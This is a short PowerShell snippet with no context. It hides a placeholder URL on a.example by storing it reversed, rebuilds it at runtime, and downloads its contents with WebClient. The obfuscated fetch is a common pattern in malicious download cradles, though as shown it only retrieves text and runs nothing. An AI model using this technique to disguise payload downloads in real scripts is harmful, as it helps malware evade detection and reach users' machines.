$s='txt.x/p/elpmaxe.a//:ptth'
$wc = New-Object System.Net.WebClient
$wc.DownloadString(($s[($s.Length-1)..0] -join ''))
